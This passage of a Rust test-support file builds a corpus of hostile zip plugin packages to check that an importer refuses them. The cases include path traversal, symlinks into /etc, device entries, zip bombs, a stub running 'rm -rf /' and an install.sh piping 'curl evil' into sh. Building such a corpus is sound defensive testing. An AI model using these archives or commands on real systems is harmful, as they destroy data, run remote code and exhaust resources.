//! A corpus of hostile plugin packages, each built programmatically.
//!
//! Every [`Attack`] writes one `plugindemo`-style package into a directory
//! and says which entry the refusal must name. The corpus does not know the
//! importer: the integration tests run it through
//! `xplugin_package::unpack_package`, and the CLI tests can run the same
//! files through `xplugin-client import`.
//!
//! Archives the `zip` writer cannot produce (headers that disagree, entries
//! that overlap, bad CRCs, lying sizes, symlink and device attributes, hidden
//! local headers, Unicode path fields) are written byte by byte by
//! [`raw::RawZip`]. Large attacks never hold their payload in memory: the
//! 4 GiB-of-zeros entry is a deflate stream assembled from one compressed
//! 1 MiB block repeated (valid because every block ends with a full flush,
//! which resets the compressor), streamed to a file.

use raw::{Body, RawEntry, RawZip};
use std::fs;
use std::io;
use std::path::{Path, PathBuf};

/// One hostile package.
#[derive(Clone)]
pub struct Attack {
    /// Short kebab-case name; the package file is `<name>.zip`.
    pub name: &'static str,
    /// Writes the package into the given directory and returns its path.
    pub build: fn(&Path) -> io::Result<PathBuf>,
    /// What the refusal must mention: the entry (with its inner archive,
    /// e.g. `client.zip: plugindemo/../evil.so`), or the package file name
    /// when the archive as a whole is bad.
    pub expect_in_message: String,
}

impl std::fmt::Debug for Attack {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Attack")
            .field("name", &self.name)
            .field("expect_in_message", &self.expect_in_message)
            .finish()
    }
}

const MIB: u64 = 1024 * 1024;
const GIB: u64 = 1024 * MIB;

/// Unix mode bits for external attributes.
const S_IFLNK: u32 = 0o120_000;
const S_IFCHR: u32 = 0o020_000;
const S_IFBLK: u32 = 0o060_000;
const S_IFIFO: u32 = 0o010_000;
const S_IFSOCK: u32 = 0o140_000;

/// The files of a valid client plugin `plugindemo` (dummy contents).
pub fn good_client_entries() -> Vec<RawEntry> {
    vec![
        RawEntry::dir("plugindemo/"),
        RawEntry::deflated(
            "plugindemo/plugindemo.json",
            br#"{"client_plugin":{"name":"plugindemo","enable":false,"version":"1.0.0"}}"#,
        ),
        RawEntry::deflated("plugindemo/plugindemo.lic", b"dummy license"),
        RawEntry::deflated("plugindemo/plugindemo.so", b"\x7fELF dummy plugin"),
        RawEntry::deflated("plugindemo/xplugin.so", b"\x7fELF dummy runtime"),
    ]
}

/// The files of a valid controller plugin `plugindemo` (dummy contents).
pub fn good_controller_entries() -> Vec<RawEntry> {
    vec![
        RawEntry::deflated(
            "plugindemo/plugindemo.json",
            br#"{"controller_plugin":{"name":"plugindemo","enable":true,"version":"1.0.0"}}"#,
        ),
        RawEntry::deflated("plugindemo/plugindemo.lic", b"dummy license"),
        RawEntry::stored(
            "plugindemo/plugindemo.so",
            b"\x7fELF dummy controller plugin",
        ),
    ]
}

/// Writes `<dir>/<name>.zip` holding `client` and `controller` as the inner
/// archives (either may be absent) plus `extra_outer` entries.
pub fn write_package(
    dir: &Path,
    name: &str,
    client: Option<RawZip>,
    controller: Option<RawZip>,
    extra_outer: Vec<RawEntry>,
) -> io::Result<PathBuf> {
    let mut outer = Vec::new();
    let mut temps = Vec::new();
    for (inner_name, inner) in [("client.zip", client), ("controller.zip", controller)] {
        if let Some(inner) = inner {
            temps.extend(inner.entries.iter().filter_map(|e| e.body.temp_file()));
            let temp = dir.join(format!(".{name}.{inner_name}.part"));
            inner.write_to(&temp)?;
            outer.push(RawEntry::stored_file(inner_name, &temp)?);
            temps.push(temp);
        }
    }
    outer.extend(extra_outer);
    temps.extend(outer.iter().filter_map(|e| e.body.temp_file()));
    let path = dir.join(format!("{name}.zip"));
    RawZip::new(outer).write_to(&path)?;
    // Only the package is left in `dir`. (Entries may share a body file.)
    temps.sort();
    temps.dedup();
    for temp in temps {
        fs::remove_file(temp)?;
    }
    Ok(path)
}

/// A well-formed package: client and controller `plugindemo`, with an extra
/// data folder and archive modes (setuid, exec) that must not survive.
pub fn well_formed_package(dir: &Path) -> io::Result<PathBuf> {
    let mut client = good_client_entries();
    client.push(RawEntry::deflated("plugindemo/res/icon.png", b"\x89PNG dummy").mode(0o104_755));
    client.push(RawEntry::deflated(
        "plugindemo/res/zh_CN/\u{6587}\u{5b57}.qm",
        b"translation",
    ));
    write_package(
        dir,
        "plugindemo",
        Some(RawZip::new(client)),
        Some(RawZip::new(good_controller_entries())),
        vec![RawEntry::stored(".DS_Store", b"litter")],
    )
}

/// A large, valid package for memory measurements: `total` bytes of
/// pseudo-random (incompressible) data spread over `entries` stored files in
/// the client plugin folder, generated streaming.
pub fn large_package(dir: &Path, total: u64, entries: u64) -> io::Result<PathBuf> {
    let mut client = good_client_entries();
    let per_entry = total / entries.max(1);
    for i in 0..entries {
        client.push(RawEntry::stored_body(
            &format!("plugindemo/data/blob{i:04}.bin"),
            Body::Random {
                len: per_entry,
                seed: i + 1,
            },
        ));
    }
    write_package(dir, "large", Some(RawZip::new(client)), None, Vec::new())
}

/// A package whose client side is the good plugin plus `extra` entries.
fn client_with(dir: &Path, name: &str, extra: Vec<RawEntry>) -> io::Result<PathBuf> {
    let mut entries = good_client_entries();
    entries.extend(extra);
    write_package(dir, name, Some(RawZip::new(entries)), None, Vec::new())
}

/// A package whose client side is exactly `zip`.
fn client_zip(dir: &Path, name: &str, zip: RawZip) -> io::Result<PathBuf> {
    write_package(dir, name, Some(zip), None, Vec::new())
}

fn attack(
    name: &'static str,
    expect_in_message: impl Into<String>,
    build: fn(&Path) -> io::Result<PathBuf>,
) -> Attack {
    Attack {
        name,
        build,
        expect_in_message: expect_in_message.into(),
    }
}

/// Every attack, at least 25, each distinct.
pub fn corpus() -> Vec<Attack> {
    vec![
        // ---- names ----
        attack(
            "path-traversal-dotdot",
            "client.zip: plugindemo/../../../tmp/evil.so",
            |d| {
                client_with(
                    d,
                    "path-traversal-dotdot",
                    vec![RawEntry::deflated("plugindemo/../../../tmp/evil.so", b"x")],
                )
            },
        ),
        attack(
            "path-traversal-backslash",
            "client.zip: plugindemo\\..\\..\\evil.dll",
            |d| {
                client_with(
                    d,
                    "path-traversal-backslash",
                    vec![RawEntry::deflated("plugindemo\\..\\..\\evil.dll", b"x")],
                )
            },
        ),
        attack("absolute-path", "client.zip: /tmp/xplugin-evil.so", |d| {
            client_with(
                d,
                "absolute-path",
                vec![RawEntry::deflated("/tmp/xplugin-evil.so", b"x")],
            )
        }),
        attack(
            "drive-letter-path",
            "client.zip: C:/Windows/evil.dll",
            |d| {
                client_with(
                    d,
                    "drive-letter-path",
                    vec![RawEntry::deflated("C:/Windows/evil.dll", b"x")],
                )
            },
        ),
        attack("unc-path", "client.zip: //server/share/evil.dll", |d| {
            client_with(
                d,
                "unc-path",
                vec![RawEntry::deflated("//server/share/evil.dll", b"x")],
            )
        }),
        attack("nul-in-name", "client.zip: plugindemo/nul", |d| {
            client_with(
                d,
                "nul-in-name",
                vec![RawEntry::deflated("plugindemo/nul\0.so", b"x")],
            )
        }),
        attack(
            "control-character-in-name",
            "client.zip: plugindemo/esc",
            |d| {
                client_with(
                    d,
                    "control-character-in-name",
                    vec![RawEntry::deflated("plugindemo/esc\x1b[2J.so", b"x")],
                )
            },
        ),
        attack(
            "bidi-override-in-name",
            // Messages show the override escaped, not applied.
            "client.zip: plugindemo/evil\\u{202e}gnp.so",
            |d| {
                client_with(
                    d,
                    "bidi-override-in-name",
                    vec![RawEntry::deflated(
                        "plugindemo/evil\u{202E}gnp.so",
                        b"\x7fELF",
                    )],
                )
            },
        ),
        attack(
            "oversized-extra-field",
            "client.zip: plugindemo/readme.txt",
            |d| {
                // 60 KB of an unknown extra field in one central record: a
                // few thousand of these would make the directory huge in memory.
                let mut e = RawEntry::deflated("plugindemo/readme.txt", b"harmless");
                e.central_extra = 0xCAFEu16.to_le_bytes().to_vec();
                e.central_extra.extend_from_slice(&60_000u16.to_le_bytes());
                e.central_extra.extend(std::iter::repeat_n(0x41u8, 60_000));
                client_with(d, "oversized-extra-field", vec![e])
            },
        ),
        attack(
            "windows-device-name",
            "client.zip: plugindemo/CON.txt",
            |d| {
                client_with(
                    d,
                    "windows-device-name",
                    vec![RawEntry::deflated("plugindemo/CON.txt", b"x")],
                )
            },
        ),
        attack(
            "name-too-long",
            format!("client.zip: plugindemo/{}", "n".repeat(300)),
            |d| {
                let name = format!("plugindemo/{}", "n".repeat(300));
                client_with(d, "name-too-long", vec![RawEntry::deflated(&name, b"x")])
            },
        ),
        attack(
            "path-too-deep",
            format!("client.zip: plugindemo/{}leaf.txt", "d/".repeat(20)),
            |d| {
                let name = format!("plugindemo/{}leaf.txt", "d/".repeat(20));
                client_with(d, "path-too-deep", vec![RawEntry::deflated(&name, b"x")])
            },
        ),
        attack(
            "duplicate-name",
            "client.zip: plugindemo/plugindemo.json",
            |d| {
                client_with(
                    d,
                    "duplicate-name",
                    vec![RawEntry::deflated(
                        "plugindemo/plugindemo.json",
                        b"{\"evil\":1}",
                    )],
                )
            },
        ),
        attack("case-collision", "client.zip: plugindemo/README.txt", |d| {
            client_with(
                d,
                "case-collision",
                vec![
                    RawEntry::deflated("plugindemo/Readme.txt", b"a"),
                    RawEntry::deflated("plugindemo/README.txt", b"b"),
                ],
            )
        }),
        attack(
            "unicode-normalisation-collision",
            "client.zip: plugindemo/cafe\u{301}.txt",
            |d| {
                client_with(
                    d,
                    "unicode-normalisation-collision",
                    vec![
                        RawEntry::deflated("plugindemo/caf\u{e9}.txt", b"a"),
                        RawEntry::deflated("plugindemo/cafe\u{301}.txt", b"b"),
                    ],
                )
            },
        ),
        attack(
            "file-and-folder-collision",
            "client.zip: plugindemo/data/x.bin",
            |d| {
                client_with(
                    d,
                    "file-and-folder-collision",
                    vec![
                        RawEntry::deflated("plugindemo/data", b"a file"),
                        RawEntry::deflated("plugindemo/data/x.bin", b"inside"),
                    ],
                )
            },
        ),
        // ---- file types and flags ----
        attack("symlink-entry", "client.zip: plugindemo/link", |d| {
            client_with(
                d,
                "symlink-entry",
                vec![RawEntry::stored("plugindemo/link", b"/etc/passwd").mode(S_IFLNK | 0o777)],
            )
        }),
        attack(
            "symlink-folder-then-file",
            "client.zip: plugindemo/res",
            |d| {
                client_with(
                    d,
                    "symlink-folder-then-file",
                    vec![
                        RawEntry::stored("plugindemo/res", b"/etc").mode(S_IFLNK | 0o777),
                        RawEntry::deflated("plugindemo/res/passwd", b"root::0:0::/:/bin/sh\n"),
                    ],
                )
            },
        ),
        attack("character-device", "client.zip: plugindemo/tty", |d| {
            client_with(
                d,
                "character-device",
                vec![RawEntry::stored("plugindemo/tty", b"").mode(S_IFCHR | 0o666)],
            )
        }),
        attack("block-device", "client.zip: plugindemo/sda", |d| {
            client_with(
                d,
                "block-device",
                vec![RawEntry::stored("plugindemo/sda", b"").mode(S_IFBLK | 0o660)],
            )
        }),
        attack("fifo", "client.zip: plugindemo/pipe", |d| {
            client_with(
                d,
                "fifo",
                vec![RawEntry::stored("plugindemo/pipe", b"").mode(S_IFIFO | 0o644)],
            )
        }),
        attack("socket", "client.zip: plugindemo/sock", |d| {
            client_with(
                d,
                "socket",
                vec![RawEntry::stored("plugindemo/sock", b"").mode(S_IFSOCK | 0o755)],
            )
        }),
        attack(
            "encrypted-entry",
            "client.zip: plugindemo/secret.bin",
            |d| {
                let mut e = RawEntry::stored(
                    "plugindemo/secret.bin",
                    b"\x01\x02\x03\x04\x05\x06\x07\x08\x09\x0a\x0b\x0cdata",
                );
                e.flags |= 1;
                client_with(d, "encrypted-entry", vec![e])
            },
        ),
        attack(
            "unsupported-method",
            "client.zip: plugindemo/payload.lzma",
            |d| {
                let mut e = RawEntry::stored("plugindemo/payload.lzma", b"not really lzma");
                e.method = 14;
                client_with(d, "unsupported-method", vec![e])
            },
        ),
        attack(
            "folder-entry-with-data",
            "client.zip: plugindemo/res/",
            |d| {
                let mut e = RawEntry::stored("plugindemo/res/", b"data in a folder");
                e.external_attributes = 0o040_755 << 16;
                client_with(d, "folder-entry-with-data", vec![e])
            },
        ),
        // ---- header disagreement and layout of the bytes ----
        attack(
            "local-name-disagrees",
            "client.zip: plugindemo/readme.txt",
            |d| {
                let mut e = RawEntry::deflated("plugindemo/readme.txt", b"harmless");
                e.local.name = Some(b"plugindemo/../../evil.so".to_vec());
                client_with(d, "local-name-disagrees", vec![e])
            },
        ),
        attack(
            "local-size-disagrees",
            "client.zip: plugindemo/readme.txt",
            |d| {
                let mut e = RawEntry::deflated("plugindemo/readme.txt", b"harmless");
                e.local.uncompressed_size = Some(1);
                client_with(d, "local-size-disagrees", vec![e])
            },
        ),
        attack(
            "local-method-disagrees",
            "client.zip: plugindemo/readme.txt",
            |d| {
                let mut e = RawEntry::stored("plugindemo/readme.txt", b"harmless");
                e.local.method = Some(8);
                client_with(d, "local-method-disagrees", vec![e])
            },
        ),
        attack(
            "unicode-path-extra-renames",
            "client.zip: plugindemo/readme.txt",
            |d| {
                let mut e = RawEntry::deflated("plugindemo/readme.txt", b"harmless");
                e.central_extra =
                    raw::unicode_path_extra(b"plugindemo/readme.txt", "../../evil.so");
                client_with(d, "unicode-path-extra-renames", vec![e])
            },
        ),
        attack(
            "overlapping-entries",
            "client.zip: plugindemo/inner.bin",
            |d| {
                // The data of outer.bin quotes a whole local header + data of inner.bin.
                let inner = RawEntry::stored("plugindemo/inner.bin", b"quoted payload");
                let quoted = inner.local_header_and_body()?;
                let mut entries = good_client_entries();
                let offset = RawZip::new(entries.clone()).data_size()?;
                let outer = RawEntry::stored("plugindemo/outer.bin", &quoted);
                let inner_offset = offset + 30 + "plugindemo/outer.bin".len() as u64;
                entries.push(outer);
                let mut listed = inner;
                listed.local_offset = Some(inner_offset);
                entries.push(listed);
                client_zip(d, "overlapping-entries", RawZip::new(entries))
            },
        ),
        attack(
            "shared-local-header",
            "client.zip: plugindemo/copy.so",
            |d| {
                // Two central records point at the same local header (a zip bomb
                // trick: m records, one body).
                let mut entries = good_client_entries();
                let first_offset = RawZip::new(entries[..3].to_vec()).data_size()?;
                let mut copy = entries[3].clone();
                copy.name = b"plugindemo/copy.so".to_vec();
                copy.local_offset = Some(first_offset);
                entries.push(copy);
                client_zip(d, "shared-local-header", RawZip::new(entries))
            },
        ),
        attack("hidden-local-header", "plugindemo/hidden.so", |d| {
            let mut zip = RawZip::new(good_client_entries());
            let hidden = RawEntry::stored(
                "plugindemo/hidden.so",
                b"\x7fELF only a streaming unzipper sees me",
            );
            zip.gap_after.push((1, hidden.local_header_and_body()?));
            client_zip(d, "hidden-local-header", zip)
        }),
        attack(
            "local-offset-out-of-bounds",
            "client.zip: plugindemo/far.bin",
            |d| {
                let mut e = RawEntry::stored("plugindemo/far.bin", b"x");
                e.local_offset = Some(0x7fff_0000);
                client_with(d, "local-offset-out-of-bounds", vec![e])
            },
        ),
        attack("prepended-data", "prepended-data.zip", |d| {
            let path = client_with(d, "prepended-data", Vec::new())?;
            let zip = fs::read(&path)?;
            let mut bytes = b"#!/bin/sh\nrm -rf / # self-extractor stub\nexit 0\n".to_vec();
            bytes.extend(zip);
            fs::write(&path, bytes)?;
            Ok(path)
        }),
        attack("trailing-garbage", "trailing-garbage.zip", |d| {
            let path = client_with(d, "trailing-garbage", Vec::new())?;
            let mut bytes = fs::read(&path)?;
            bytes.extend_from_slice(b"PK\x03\x04 trailing bytes after the end record");
            fs::write(&path, bytes)?;
            Ok(path)
        }),
        // ---- data ----
        attack(
            "crc-mismatch",
            "client.zip: plugindemo/plugindemo.lic",
            |d| {
                let mut entries = good_client_entries();
                for e in &mut entries {
                    if e.name == b"plugindemo/plugindemo.lic" {
                        e.crc32 ^= 0xdead_beef;
                    }
                }
                client_zip(d, "crc-mismatch", RawZip::new(entries))
            },
        ),
        attack(
            "deflate-stream-hides-data",
            "client.zip: plugindemo/readme.txt",
            |d| {
                let mut e = RawEntry::deflated("plugindemo/readme.txt", b"visible");
                if let Body::Bytes(b) = &mut e.body {
                    b.extend_from_slice(b"hidden bytes after the end of the deflate stream");
                }
                client_with(d, "deflate-stream-hides-data", vec![e])
            },
        ),
        attack(
            "data-descriptor-disagrees",
            "client.zip: plugindemo/streamed.txt",
            |d| {
                let mut e = RawEntry::deflated("plugindemo/streamed.txt", b"streamed entry");
                e.descriptor = Some(raw::Descriptor {
                    crc32: e.crc32 ^ 1,
                    with_signature: true,
                });
                client_with(d, "data-descriptor-disagrees", vec![e])
            },
        ),
        attack(
            "larger-than-declared",
            "client.zip: plugindemo/data.bin",
            |d| {
                // 4 MiB of zeros that declare 1000 bytes (ratio check exempt: small).
                let mut e = RawEntry::deflated_body(
                    "plugindemo/data.bin",
                    DeflateStream::zeros(4 * MIB),
                    d,
                )?;
                e.uncompressed_size = 1000;
                e.crc32 = crc32fast::hash(&[0u8; 1000]);
                client_with(d, "larger-than-declared", vec![e])
            },
        ),
        attack(
            "smaller-than-declared",
            "client.zip: plugindemo/data.bin",
            |d| {
                let mut e = RawEntry::deflated("plugindemo/data.bin", &[7u8; 100]);
                e.uncompressed_size = 200;
                client_with(d, "smaller-than-declared", vec![e])
            },
        ),
        attack(
            "truncated-deflate-stream",
            "client.zip: plugindemo/data.bin",
            |d| {
                let data: Vec<u8> = (0..20_000u32)
                    .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
                    .collect();
                let mut e = RawEntry::deflated("plugindemo/data.bin", &data);
                if let Body::Bytes(b) = &mut e.body {
                    b.truncate(b.len() / 2);
                }
                client_with(d, "truncated-deflate-stream", vec![e])
            },
        ),
        attack(
            "zip64-end-record-disagrees",
            "zip64-end-record-disagrees.zip: client.zip",
            |d| {
                // The zip64 end record counts 5 entries, the 32-bit one 4:
                // readers that ignore zip64 see a different archive.
                let mut zip = RawZip::new(good_client_entries());
                zip.zip64_end = true;
                zip.end_count_override = Some(4);
                client_zip(d, "zip64-end-record-disagrees", zip)
            },
        ),
        attack(
            "end-record-in-comment",
            "end-record-in-comment.zip: client.zip",
            |d| {
                // The end record's comment is itself an end record: readers
                // that search from the end and readers that search from the
                // comment's start pick different ones.
                let temp = d.join(".end-record.part");
                RawZip::new(good_client_entries()).write_to(&temp)?;
                let mut bytes = fs::read(&temp)?;
                fs::remove_file(&temp)?;
                let end_at = bytes.len() - 22;
                let end_record = bytes[end_at..].to_vec();
                let comment_len_at = bytes.len() - 2;
                bytes[comment_len_at..].copy_from_slice(&22u16.to_le_bytes());
                bytes.extend_from_slice(&end_record);
                write_package(
                    d,
                    "end-record-in-comment",
                    None,
                    None,
                    vec![RawEntry::stored("client.zip", &bytes)],
                )
            },
        ),
        attack("truncated-package", "truncated-package.zip", |d| {
            let path = client_with(d, "truncated-package", Vec::new())?;
            let bytes = fs::read(&path)?;
            fs::write(&path, &bytes[..bytes.len() * 6 / 10])?;
            Ok(path)
        }),
        attack(
            "truncated-inner-zip",
            "truncated-inner-zip.zip: client.zip",
            |d| {
                let temp = d.join(".truncated-inner.part");
                RawZip::new(good_client_entries()).write_to(&temp)?;
                let bytes = fs::read(&temp)?;
                fs::remove_file(&temp)?;
                let cut = bytes[..bytes.len() * 6 / 10].to_vec();
                write_package(
                    d,
                    "truncated-inner-zip",
                    None,
                    None,
                    vec![RawEntry::stored("client.zip", &cut)],
                )
            },
        ),
        // ---- bombs and limits ----
        attack(
            "zeros-4gib-zip64",
            "client.zip: plugindemo/zeros.bin",
            |d| {
                let e = RawEntry::deflated_body(
                    "plugindemo/zeros.bin",
                    DeflateStream::zeros(4 * GIB),
                    d,
                )?;
                client_with(d, "zeros-4gib-zip64", vec![e])
            },
        ),
        attack(
            "zeros-4gib-declared-small",
            "client.zip: plugindemo/zeros.bin",
            |d| {
                let mut e = RawEntry::deflated_body(
                    "plugindemo/zeros.bin",
                    DeflateStream::zeros(4 * GIB),
                    d,
                )?;
                e.uncompressed_size = 65_536;
                e.crc32 = crc32fast::hash(&[0u8; 65_536]);
                client_with(d, "zeros-4gib-declared-small", vec![e])
            },
        ),
        attack("ratio-bomb", "client.zip: plugindemo/bomb.bin", |d| {
            let e =
                RawEntry::deflated_body("plugindemo/bomb.bin", DeflateStream::zeros(200 * MIB), d)?;
            client_with(d, "ratio-bomb", vec![e])
        }),
        attack("zip-in-zip-bomb", "zip-in-zip-bomb.zip: client.zip", |d| {
            // client.zip is a deflated zip whose own entry is 256 MiB of
            // stored zeros: the outer layer alone expands ~500 times.
            let temp = d.join(".zip-in-zip.part");
            let mut inner = good_client_entries();
            inner.push(RawEntry::stored_body(
                "plugindemo/zeros.bin",
                Body::Zeros(256 * MIB),
            ));
            RawZip::new(inner).write_to(&temp)?;
            let outer = RawEntry::deflated_file("client.zip", &temp)?;
            fs::remove_file(&temp)?;
            write_package(d, "zip-in-zip-bomb", None, None, vec![outer])
        }),
        attack(
            "entry-over-size-limit",
            "client.zip: plugindemo/nested.zip",
            |d| {
                // A nested archive inside a plugin folder is only data (never
                // opened), but it is still held to the per-entry limit; the ratio
                // (~150) is within limits, so only the size refuses it.
                let e = RawEntry::deflated_body(
                    "plugindemo/nested.zip",
                    DeflateStream::zeros(GIB + MIB).with_random_prefix(6 * MIB),
                    d,
                )?;
                client_with(d, "entry-over-size-limit", vec![e])
            },
        ),
        attack(
            "too-many-entries",
            "too-many-entries.zip: client.zip",
            |d| {
                let mut entries = good_client_entries();
                for i in 0..5000 {
                    entries.push(RawEntry::stored(&format!("plugindemo/many/{i}.txt"), b""));
                }
                client_zip(d, "too-many-entries", RawZip::new(entries))
            },
        ),
        attack(
            "total-size-over-limit",
            "client.zip: plugindemo/part3.bin",
            |d| {
                // Three 806 MiB entries, each within the per-entry and ratio limits.
                let body = DeflateStream::zeros(800 * MIB).with_random_prefix(6 * MIB);
                let template = RawEntry::deflated_body("plugindemo/part1.bin", body, d)?;
                let mut parts = Vec::new();
                for i in 1..=3 {
                    let mut e = template.clone();
                    e.name = format!("plugindemo/part{i}.bin").into_bytes();
                    parts.push(e);
                }
                client_with(d, "total-size-over-limit", parts)
            },
        ),
        attack(
            "oversized-json",
            "client.zip: plugindemo/plugindemo.json",
            |d| {
                let mut entries: Vec<RawEntry> = good_client_entries()
                    .into_iter()
                    .filter(|e| e.name != b"plugindemo/plugindemo.json")
                    .collect();
                let mut json = b"{\"client_plugin\":{\"name\":\"plugindemo\",\"enable\":false,\"version\":\"1.0.0\",\"description\":\"".to_vec();
                let mut x = 0x1234_5678u32;
                while json.len() < 2 * MIB as usize {
                    x ^= x << 13;
                    x ^= x >> 17;
                    x ^= x << 5;
                    json.push(b"0123456789abcdef"[(x & 15) as usize]);
                }
                json.extend_from_slice(b"\"}}");
                entries.push(RawEntry::deflated("plugindemo/plugindemo.json", &json));
                client_zip(d, "oversized-json", RawZip::new(entries))
            },
        ),
        // ---- package structure and format ----
        attack(
            "nested-archive-at-top",
            "nested-archive-at-top.zip: plugins.zip",
            |d| {
                let temp = d.join(".nested.part");
                RawZip::new(good_client_entries()).write_to(&temp)?;
                let extra = RawEntry::stored_file("plugins.zip", &temp)?;
                write_package(
                    d,
                    "nested-archive-at-top",
                    Some(RawZip::new(good_client_entries())),
                    None,
                    vec![extra],
                )
            },
        ),
        attack(
            "unexpected-file-at-top",
            "unexpected-file-at-top.zip: install.sh",
            |d| {
                write_package(
                    d,
                    "unexpected-file-at-top",
                    Some(RawZip::new(good_client_entries())),
                    None,
                    vec![
                        RawEntry::stored("install.sh", b"#!/bin/sh\ncurl evil | sh\n")
                            .mode(0o100_755),
                    ],
                )
            },
        ),
        attack("no-inner-archive", "no-inner-archive.zip", |d| {
            write_package(
                d,
                "no-inner-archive",
                None,
                None,
                vec![RawEntry::stored("__MACOSX/._client.zip", b"litter")],
            )
        }),
        attack(
            "inner-zip-in-a-folder",
            "inner-zip-in-a-folder.zip: plugindemo/client.zip",
            |d| {
                let temp = d.join(".folder.part");
                RawZip::new(good_client_entries()).write_to(&temp)?;
                let e = RawEntry::stored_file("plugindemo/client.zip", &temp)?;
                write_package(d, "inner-zip-in-a-folder", None, None, vec![e])
            },
        ),
        attack("file-outside-plugin-folder", "client.zip: evil.so", |d| {
            client_with(
                d,
                "file-outside-plugin-folder",
                vec![RawEntry::deflated("evil.so", b"\x7fELF")],
            )
        }),
        attack("manifest-stem-wrong-case", "client.zip: plugindemo/", |d| {
            let entries = good_client_entries()
                .into_iter()
                .map(|mut e| {
                    if e.name == b"plugindemo/plugindemo.json" {
                        e.name = b"plugindemo/PluginDemo.json".to_vec();
                    }
                    e
                })
                .collect();
            client_zip(d, "manifest-stem-wrong-case", RawZip::new(entries))
        }),
        attack("license-missing", "controller.zip: plugindemo/", |d| {
            let entries = good_controller_entries()
                .into_iter()
                .filter(|e| e.name != b"plugindemo/plugindemo.lic")
                .collect();
            write_package(
                d,
                "license-missing",
                None,
                Some(RawZip::new(entries)),
                Vec::new(),
            )
        }),
        attack("client-runtime-missing", "client.zip: plugindemo/", |d| {
            let entries = good_client_entries()
                .into_iter()
                .filter(|e| e.name != b"plugindemo/xplugin.so")
                .collect();
            client_zip(d, "client-runtime-missing", RawZip::new(entries))
        }),
    ]
}

/// Byte-level zip writing, for archives no well-behaved writer produces.
pub mod raw {
    use std::fs::{self, File};
    use std::io::{self, BufWriter, Read, Write};
    use std::path::{Path, PathBuf};

    const LOCAL_SIGNATURE: u32 = 0x0403_4b50;
    const CENTRAL_SIGNATURE: u32 = 0x0201_4b50;
    const EOCD_SIGNATURE: u32 = 0x0605_4b50;
    const ZIP64_EOCD_SIGNATURE: u32 = 0x0606_4b50;
    const ZIP64_LOCATOR_SIGNATURE: u32 = 0x0706_4b50;
    const DESCRIPTOR_SIGNATURE: u32 = 0x0807_4b50;
    const MADE_BY_UNIX: u16 = (3 << 8) | 63;
    const U32_MAX: u64 = 0xFFFF_FFFF;
    const BUF: usize = 64 * 1024;

    /// The stored bytes of an entry (already compressed if the method says so).
    #[derive(Debug, Clone)]
    pub enum Body {
        /// In memory.
        Bytes(Vec<u8>),
        /// A file on disk, streamed.
        File(PathBuf),
        /// `n` zero bytes, streamed.
        Zeros(u64),
        /// Pseudo-random bytes (xorshift), streamed.
        Random {
            /// Length.
            len: u64,
            /// Generator seed (non-zero).
            seed: u64,
        },
    }

    impl Body {
        fn len(&self) -> io::Result<u64> {
            Ok(match self {
                Body::Bytes(b) => b.len() as u64,
                Body::File(p) => fs::metadata(p)?.len(),
                Body::Zeros(n) => *n,
                Body::Random { len, .. } => *len,
            })
        }

        /// Streams the body into `out` with a fixed buffer.
        fn write(&self, out: &mut impl Write) -> io::Result<()> {
            match self {
                Body::Bytes(b) => out.write_all(b),
                Body::File(p) => {
                    let mut f = File::open(p)?;
                    let mut buf = vec![0u8; BUF];
                    loop {
                        let n = f.read(&mut buf)?;
                        if n == 0 {
                            return Ok(());
                        }
                        out.write_all(&buf[..n])?;
                    }
                }
                Body::Zeros(n) => {
                    let buf = vec![0u8; BUF];
                    let mut left = *n;
                    while left > 0 {
                        let k = left.min(BUF as u64) as usize;
                        out.write_all(&buf[..k])?;
                        left -= k as u64;
                    }
                    Ok(())
                }
                Body::Random { len, seed } => {
                    let mut state = (*seed).max(1);
                    let mut buf = vec![0u8; BUF];
                    let mut left = *len;
                    while left > 0 {
                        for chunk in buf.chunks_mut(8) {
                            state ^= state << 13;
                            state ^= state >> 7;
                            state ^= state << 17;
                            let bytes = state.to_le_bytes();
                            chunk.copy_from_slice(&bytes[..chunk.len()]);
                        }
                        let k = left.min(BUF as u64) as usize;
                        out.write_all(&buf[..k])?;
                        left -= k as u64;
                    }
                    Ok(())
                }
            }
        }

        /// A generator's intermediate file (named `.*.part` or `*.deflate`),
        /// which [`super::write_package`] removes once the package is written.
        pub fn temp_file(&self) -> Option<PathBuf> {
            let Body::File(path) = self else {
                return None;
            };
            let name = path.file_name()?.to_str()?;
            let generated = name.starts_with('.') && name.ends_with(".part")
                || path.extension().is_some_and(|e| e == "deflate");
            generated.then(|| path.clone())
        }

        /// CRC-32 of the body, streaming.
        pub fn crc32(&self) -> io::Result<u32> {
            let mut h = CrcWriter(crc32fast::Hasher::new());
            self.write(&mut h)?;
            Ok(h.0.finalize())
        }
    }

    struct CrcWriter(crc32fast::Hasher);
    impl Write for CrcWriter {
        fn write(&mut self, buf: &[u8]) -> io::Result<usize> {
            self.0.update(buf);
            Ok(buf.len())
        }
        fn flush(&mut self) -> io::Result<()> {
            Ok(())
        }
    }

    /// Values the local header states instead of the central record's.
    #[derive(Debug, Clone, Default)]
    pub struct LocalTweaks {
        /// Another name.
        pub name: Option<Vec<u8>>,
        /// Another CRC.
        pub crc32: Option<u32>,
        /// Another compressed size.
        pub compressed_size: Option<u64>,
        /// Another uncompressed size.
        pub uncompressed_size: Option<u64>,
        /// Another method.
        pub method: Option<u16>,
    }

    /// A data descriptor after the data (flag bit 3).
    #[derive(Debug, Clone, Copy)]
    pub struct Descriptor {
        /// The CRC it states.
        pub crc32: u32,
        /// Whether it starts with the optional signature.
        pub with_signature: bool,
    }

    /// One entry, every header field under the caller's control.
    #[derive(Debug, Clone)]
    pub struct RawEntry {
        /// Name bytes in both headers (unless `local.name`).
        pub name: Vec<u8>,
        /// The stored bytes.
        pub body: Body,
        /// 0 stored, 8 deflate, anything else to test refusals.
        pub method: u16,
        /// CRC-32 of the uncompressed data.
        pub crc32: u32,
        /// Declared uncompressed size.
        pub uncompressed_size: u64,
        /// General-purpose flags (bit 11, UTF-8, is set by the constructors).
        pub flags: u16,
        /// External attributes (Unix mode in the upper 16 bits).
        pub external_attributes: u32,
        /// Extra fields for the central record only.
        pub central_extra: Vec<u8>,
        /// Local-header disagreements.
        pub local: LocalTweaks,
        /// `Some`: write no local header; the central record points here.
        pub local_offset: Option<u64>,
        /// A data descriptor after the data (sets flag bit 3).
        pub descriptor: Option<Descriptor>,
    }

    impl RawEntry {
        fn new(name: &str, body: Body, method: u16, crc32: u32, size: u64) -> Self {
            RawEntry {
                name: name.as_bytes().to_vec(),
                body,
